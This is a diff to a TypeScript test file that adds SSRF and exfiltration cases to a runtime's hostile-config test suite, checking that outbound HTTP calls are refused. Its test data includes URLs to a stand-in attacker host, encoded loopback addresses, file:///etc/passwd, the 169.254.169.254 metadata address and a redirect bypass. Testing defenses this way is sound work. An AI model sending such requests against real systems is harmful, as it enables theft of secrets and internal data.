@@ -3,7 +3,8 @@
  * and for each a scan proves nothing outside the environment's own directories was read or written (see
  * helpers/sandbox.ts: Wharf's private key sits at ../../github-app.pem from the config dir, as in .wharf/).
  */
-import { request } from 'node:http';
+import { createServer, request, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import t, { type Test } from 'tap';
 import { ConfigError } from '../src/config/app-config.js';
@@ -59,6 +60,29 @@ const templateApp = (template: string) =>
     `      - { name: s, type: step.set, config: { values: { out: ${JSON.stringify(template)} } } }
       - { name: ok, type: step.json_response, config: { body: { size: "{{ len .out }}" } } }`,
   );
+
+const httpCallApp = (url: string) =>
+  pipeline(
+    `      - { name: call, type: step.http_call, config: { url: ${JSON.stringify(url)}, headers: { Authorization: "Bearer s3cret" } } }
+      - { name: ok, type: step.json_response, config: { body: { got: "{{ .steps.call.body.where }}" } } }`,
+  );
+
+/** A server on 127.0.0.1 that answers /ok and redirects /hop to `location`; it records what reached it. */
+async function upstream(location = ''): Promise<{ server: Server; port: number; seen: string[] }> {
+  const seen: string[] = [];
+  const server = createServer((req, res) => {
+    seen.push(`${req.url} ${req.headers.authorization ?? ''}`);
+    if (req.url === '/hop') {
+      res.writeHead(302, { location });
+      res.end();
+    } else {
+      res.writeHead(200, { 'content-type': 'application/json' });
+      res.end(JSON.stringify({ where: 'upstream' }));
+    }
+  });
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+  return { server, port: (server.address() as AddressInfo).port, seen };
+}
 
 const staticApp = `modules:${SERVER}
   - { name: site, type: static.fileserver, config: { root: ./site, prefix: /ui, spaFallback: false } }
@@ -256,6 +280,27 @@ const CASES: Case[] = [
       t.same(res.body, { error: 'request body too large' });
     },
   },
+  // HTTP calls from a config.
+  { name: 'http_call to a host nobody allowed', yaml: () => httpCallApp('https://attacker.example/collect'), refused: /step call \(step\.http_call\) config\.url: connecting to attacker\.example:443 is not allowed/ },
+  { name: 'http_call to the loopback as a decimal number', yaml: () => httpCallApp('http://2130706433:4600/api'), options: { allowHosts: ['api.example'] }, refused: /connecting to 127\.0\.0\.1:4600 is not allowed/ },
+  { name: 'http_call to the loopback in hex', yaml: () => httpCallApp('http://0x7f.1:4600/'), options: { allowHosts: ['api.example'] }, refused: /connecting to 127\.0\.0\.1:4600 is not allowed/ },
+  { name: 'http_call to the IPv6 loopback', yaml: () => httpCallApp('http://[::1]:4600/'), options: { allowHosts: ['api.example'] }, refused: /connecting to ::1:4600 is not allowed/ },
+  { name: 'http_call to a file: URL', yaml: () => httpCallApp('file:///etc/passwd'), refused: /only http and https URLs are allowed, not file:/ },
+  {
+    name: 'http_call whose templated URL points elsewhere at run time',
+    yaml: () => httpCallApp('http://{{ .body.host }}/steal'),
+    options: { allowHosts: ['api.example'] },
+    probe: async (url, t) => {
+      const res = await attack(url, { host: '169.254.169.254' });
+      t.equal(res.status, 500, 'the call is refused when it is made');
+      t.match(res.body.error, /connecting to 169\.254\.169\.254:80 is not allowed/);
+    },
+  },
+  {
+    name: 'http_call redirected from an allowed host to one that is not',
+    yaml: () => httpCallApp('http://127.0.0.1:__PORT__/hop'),
+    probe: async () => undefined,
+  },
   // Where the runtime listens.
   {
     name: 'http.server address 0.0.0.0 does not open all interfaces',
@@ -273,13 +318,28 @@ t.test('the hostile-config corpus', async (t) => {
       const sb = createSandbox();
       t.teardown(() => sb.remove());
       c.setup?.(sb);
-      const config = sb.write('env/config/app.yaml', c.yaml(sb));
+      let yaml = c.yaml(sb);
+      let options = c.options;
+      let up: Awaited<ReturnType<typeof upstream>> | null = null;
+      let other: Awaited<ReturnType<typeof upstream>> | null = null;
+      if (yaml.includes('__PORT__')) {
+        // The redirect case: an allowed upstream that redirects to a second server the runtime may not reach.
+        other = await upstream();
+        up = await upstream(`http://127.0.0.1:${other.port}/ok`);
+        t.teardown(() => {
+          up?.server.close();
+          other?.server.close();
+        });
+        yaml = yaml.replace('__PORT__', String(up.port));
+        options = { allowHosts: [`127.0.0.1:${up.port}`] };
+      }
+      const config = sb.write('env/config/app.yaml', yaml);
       const configFiles = c.name === 'a config file outside --config-root' ? [config, join(sb.outside, 'evil.yaml')] : [config];
       sb.seal();
       const before = sb.snapshot();
       let rt: Runtime | null = null;
       try {
-        rt = await createRuntime({ configFiles, configRoot: sb.configDir, dataDir: sb.dataDir, port: 0, digest: 'sha256:hostile', ...c.options });
+        rt = await createRuntime({ configFiles, configRoot: sb.configDir, dataDir: sb.dataDir, port: 0, digest: 'sha256:hostile', ...options });
       } catch (err) {
         if (!c.refused) throw err;
         t.type(err, ConfigError, 'refused at start');
@@ -290,6 +350,13 @@ t.test('the hostile-config corpus', async (t) => {
       if (rt) {
         t.teardown(() => rt?.close());
         await c.probe?.(rt.url, t, sb);
+        if (up && other) {
+          const res = await attack(rt.url);
+          t.equal(res.status, 500, 'the redirect is not followed');
+          t.match(res.body.error, new RegExp(`connecting to 127\\.0\\.0\\.1:${other.port} is not allowed`));
+          t.same(up.seen, ['/hop Bearer s3cret'], 'the allowed host was called');
+          t.same(other.seen, [], 'the host it redirected to was never reached');
+        }
         await rt.close();
       }
       t.same(sb.changes(before), [], `nothing outside the environment was read or written${sb.atimeWorks ? '' : ' (this filesystem does not record reads: writes only)'}`);
